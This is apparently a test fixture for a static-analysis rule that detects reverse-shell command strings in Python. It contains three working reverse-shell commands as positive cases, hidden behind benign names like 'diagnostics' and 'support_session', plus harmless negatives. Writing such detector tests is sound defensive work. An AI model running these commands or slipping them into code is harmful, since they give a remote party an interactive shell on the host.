import os
import subprocess


def diagnostics(host: str, port: int) -> None:
    # ruleid: reverse-shell-command-string
    subprocess.Popen(f"bash -i >& /dev/tcp/{host}/{port} 0>&1", shell=True)


def support_session() -> None:
    # ruleid: reverse-shell-command-string
    os.system("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f")


# ruleid: reverse-shell-command-string
FALLBACK = "nc -e /bin/sh 203.0.113.5 9001"


def port_open(host: str, port: int) -> bool:
    # ok: reverse-shell-command-string
    return subprocess.run(["nc", "-z", "-w", "2", host, str(port)]).returncode == 0


def interactive_shell() -> None:
    # ok: reverse-shell-command-string
    subprocess.run(["bash", "-i"], check=False)


# ok: reverse-shell-command-string
HELP = "Use /dev/ttyUSB0 for the serial console"
